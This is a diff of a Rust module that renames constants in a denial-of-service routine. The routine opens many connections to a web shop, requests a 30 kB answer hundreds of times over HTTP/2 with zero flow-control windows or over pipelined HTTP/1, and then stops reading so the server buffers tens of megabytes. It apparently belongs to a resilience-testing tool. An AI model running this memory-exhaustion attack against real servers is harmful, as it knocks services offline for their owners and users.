@@ -23,17 +23,17 @@ pub const CONNECTIONS: u32 = 16;
 const ANSWERS: u32 = 250;
 /// A public answer of some 30 kB.
 const PATH: &str = "/openapi.json";
-const PAUSE: Duration = Duration::from_secs(10);
+const REPEAT_DELAY: Duration = Duration::from_secs(10);
 /// The time for which a connection takes nothing.
-const TAKES_NOTHING: Duration = Duration::from_secs(4);
+const TAKES_NOTHING_FOR: Duration = Duration::from_secs(4);
 /// The maximum number of bytes that the shop may have kept: 16 MiB, and 4 KiB of each answer in its buffers. All answers
 /// over HTTP/2 have 58 MB.
-const MAY_BE_KEPT: u64 = 40_000_000;
+const MAX_KEPT_BYTES: u64 = 40_000_000;
 
 pub async fn hold(attacker: Arc<Attacker>) {
     let received = Arc::new(AtomicU64::default());
     attacker
-        .repeat(CONNECTIONS, PAUSE, move |attacker, number| {
+        .repeat(CONNECTIONS, REPEAT_DELAY, move |attacker, number| {
             let received = received.clone();
             async move {
                 match number % 2 {
@@ -52,10 +52,10 @@ async fn over_http2(attacker: &Arc<Attacker>, received: Arc<AtomicU64>) {
     let requests = (0..ANSWERS).flat_map(|number| frames::headers(number * 2 + 1, &block, true));
     let requests: Vec<u8> = frames::window_of_streams(0).into_iter().chain(requests).collect();
     attacker.has_sent(ANSWERS.into());
-    let mut steps = [(Duration::ZERO, requests), (TAKES_NOTHING, frames::open_windows())].into_iter();
+    let mut steps = [(Duration::ZERO, requests), (TAKES_NOTHING_FOR, frames::open_windows())].into_iter();
     let count = |size: u64| {
         let before = received.fetch_add(size, Relaxed);
-        if (MAY_BE_KEPT.saturating_sub(size)..MAY_BE_KEPT).contains(&before) {
+        if (MAX_KEPT_BYTES.saturating_sub(size)..MAX_KEPT_BYTES).contains(&before) {
             attacker.has_succeeded();
         }
     };
@@ -76,5 +76,5 @@ async fn over_http1(attacker: &Arc<Attacker>) {
     let request = format!("GET {PATH} HTTP/1.1\r\nHost: {target}\r\n\r\n");
     attacker.has_sent(ANSWERS.into());
     let _ = connection.write(request.repeat(ANSWERS as usize).as_bytes()).await;
-    sleep(TAKES_NOTHING + PAUSE).await;
+    sleep(TAKES_NOTHING_FOR + REPEAT_DELAY).await;
 }
